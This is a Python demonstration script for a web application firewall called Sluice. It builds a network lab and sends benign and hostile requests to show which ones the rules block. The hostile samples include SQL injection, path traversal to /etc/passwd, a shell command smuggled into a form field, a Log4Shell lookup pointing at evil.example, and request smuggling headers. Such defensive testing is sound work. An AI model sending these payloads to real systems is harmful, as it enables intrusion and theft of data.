# SPDX-License-Identifier: Apache-2.0
# Copyright the Sluice authors
"""The demonstration behind scripts/demo: the laboratory of the system tests, told to a person."""
import itertools
import json
import pathlib
import signal
import sys
import time

import lab

POLICY = """
mode: block
rules: {{ include: [{source}/signatures/*.conf, {home}/rules.conf] }}
services:
  - name: shop
    addresses: [{server4}, "{server6}"]
    ports: [80]
    limits:
      - {{ name: per-key, key: ["header:x-api-key"], rate: 5/s, burst: 20, action: block }}
"""

RULES = """
SecRule REQUEST_URI "@beginsWith /internal/" \\
  "id:1001,phase:1,deny,status:403,msg:'internal routes are not for clients'"
IncludeOptional {home}/state/bundles/*/current/*.conf
"""

UPDATE = """
SecRule ARGS:export "@streq all" "id:2001,phase:2,deny,status:403,msg:'export of everything'"
"""

CRS = pathlib.Path("/usr/share/modsecurity-crs/rules")
CRS_RULES = """
SecRequestBodyAccess On
Include /etc/modsecurity/crs/crs-setup.conf
Include /usr/share/modsecurity-crs/rules/*.conf
"""
BROWSER = ("-H", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)", "-H", "Host: shop.example",
           "-H", "Accept: */*")
CRS_REQUESTS = (
    ("a search", "/index.html?q=blue+shoes&page=2"),
    ("SQL injection in the query", "/index.html?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"),
    ("script in the query", "/index.html?q=%3Cscript%3Ealert(1)%3C/script%3E"),
)

JSON = ("-H", "Content-Type: application/json")
REQUESTS = (
    ("a page", "/index.html"),
    ("a search", "/index.html?q=blue+shoes&page=2"),
    ("an order as JSON", "/index.html", *JSON, "-d", '{"item": 17, "count": 2}'),
    ("a page over IPv6", "/index.html", "IPV6"),
    ("SQL injection in the query", "/index.html?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"),
    ("SQL injection in JSON", "/index.html", *JSON, "-d", '{"id": "1 OR 1=1 UNION SELECT 1,2,3--"}'),
    ("path traversal", "/index.html?file=../../../../etc/passwd"),
    ("shell command in a form", "/index.html", "-d", "name=x;cat%20/etc/passwd"),
    ("Log4Shell in a header", "/index.html", "-H", "User-Agent: ${jndi:ldap://evil.example/a}"),
    ("a route of our own rule", "/internal/metrics"),
    ("smuggling by two lengths", "/index.html", "-H", "Content-Length: 5", "-H",
     "Transfer-Encoding: chunked", "-d", "0"),
)


def send(it, words):
    server = lab.SERVER6 if "IPV6" in words else lab.SERVER4
    return it.curl(*[word for word in words if word != "IPV6"], server=server)


def event_of(body):
    try:
        return json.loads(body).get("event_id", "")
    except ValueError:
        return ""


def explain(it, event):
    """The reason, and the rules where rules decided, from the record of the event."""
    def recorded():
        found = [record for record in it.events("alert")
                 if record["sluice"]["event_id"] == event]
        return found[0] if found else None
    record = lab.wait_for(recorded, 5, "the record of " + event)
    rules = [str(rule["id"]) for rule in record["alert"].get("rules", [])]
    text = record["sluice"]["reason"]
    return text + (": rule " + ", ".join(rules[:4]) if rules else "")


def row(it, name, words):
    status, body = send(it, words)
    event = event_of(body)
    if event:
        print(f"{name:34} {status:6}  stopped, {explain(it, event)}, event {event}")
    else:
        outcome = "passed, answered by nginx" if status == 200 else "no answer: both ends reset"
        print(f"{name:34} {status:6}  {outcome}")
    return event


def heading(text):
    print(f"\n== {text}", flush=True)


def push(it, what):
    heading(f"pushing {what}")
    report = it.push()
    print(f"generation {report['generation']}: {report['state']}, {report['rules']} rules, compiled in "
          f"{report['compile_ms']} ms, published in {report['publish_ms']} ms\n")


def install_bundle(it):
    """A signature update: built and signed by one side, verified and installed by the other."""
    heading("a signed signature update: sluicectl bundle build, sign, install")
    key, bundle = it.home / "vendor.pem", it.home / "update.bundle"
    (it.home / "keys").mkdir()
    it.client("openssl", "genpkey", "-algorithm", "ed25519", "-out", key)
    it.client("openssl", "pkey", "-in", key, "-pubout", "-out", it.home / "keys/vendor.pub.pem")
    (it.home / "update.conf").write_text(UPDATE)
    row(it, "before: an export of everything", ("/index.html?export=all",))
    it.ctl("bundle", "build", "--name", "vendor", "--version", "1", "--output", bundle,
           it.home / "update.conf")
    it.ctl("bundle", "sign", "--key", key, bundle)
    print(it.ctl("bundle", "install", bundle, timeout=300).stdout.strip())
    row(it, "after: an export of everything", ("/index.html?export=all",))


def exceed_limit(it):
    heading("40 requests at once from a client that may make 20 and then 5 a second")
    each = ("-o", "/dev/null", f"http://{lab.SERVER4}/index.html")
    began = time.monotonic()
    done = it.client("curl", "-s", "--parallel", "--parallel-immediate", "--parallel-max", "40",
                     "-w", "%{http_code}\n", "-H", "X-Api-Key: demo", *(40 * each))
    statuses = list(map(int, done.stdout.split()))
    print(f"{statuses.count(200)} answered by nginx, {statuses.count(429)} refused with 429, "
          f"in {time.monotonic() - began:.2f} s")


def show(it):
    it.write_rules(RULES.format(home=it.home))
    push(it, "our own signatures")
    print(f"{'request':34} {'status':6}  outcome")
    events = [event for name, *words in REQUESTS if (event := row(it, name, words))]
    heading(f"why: sluicectl explain {events[0]}")
    print(it.ctl("explain", events[0]).stdout.rstrip())
    exceed_limit(it)
    install_bundle(it)
    if CRS.exists():
        it.write_rules(RULES.format(home=it.home) + CRS_RULES)
        push(it, "the OWASP Core Rule Set beside them, unmodified")
        for name, *words in CRS_REQUESTS:
            row(it, name, (*words, *BROWSER))
    heading("what sluicectl status says")
    print(it.ctl("status").stdout.rstrip())
    heading("what nginx saw")
    log = lab.wait_for(lambda: (it.home / "access.log").read_text(), 5, "nginx's log")
    requests = [line.split('"')[1] for line in log.splitlines()]
    for request, same in itertools.groupby(requests):
        print(f"{len(list(same)):3} x {request}")


def stay(it):
    build = lab.BUILD
    print(f"""== it stays. In another terminal, as root:
  nsenter --net=/run/netns/{it.namespaces['client']} curl -i 'http://{lab.SERVER4}/?id=1%27%20OR%201=1--'
  {build}/controlplane/ctl/sluicectl --config {it.config} status
  {build}/controlplane/ctl/sluicectl --config {it.config} events --follow
  $EDITOR {it.home}/rules.conf && {build}/controlplane/ctl/sluicectl --config {it.config} push
Enter or Ctrl-C ends it and cleans up.""", flush=True)
    signal.signal(signal.SIGTERM, signal.default_int_handler)
    try:
        if not sys.stdin.readline():
            signal.pause()
    except KeyboardInterrupt:
        pass


def main():
    print("== laying out namespaces: client - dataplane (2 workers, 2 queues) - nginx", flush=True)
    try:
        with lab.Lab("demo", guarded=False, policy=POLICY, pool_mb=128) as it:
            show(it)
            if "--stay" in sys.argv:
                stay(it)
    except lab.Failure as failure:
        print(f"demo: {failure}", file=sys.stderr)
        sys.exit(1)
    print("== cleaned up: no namespace, process, huge page or shared memory is left")


main()
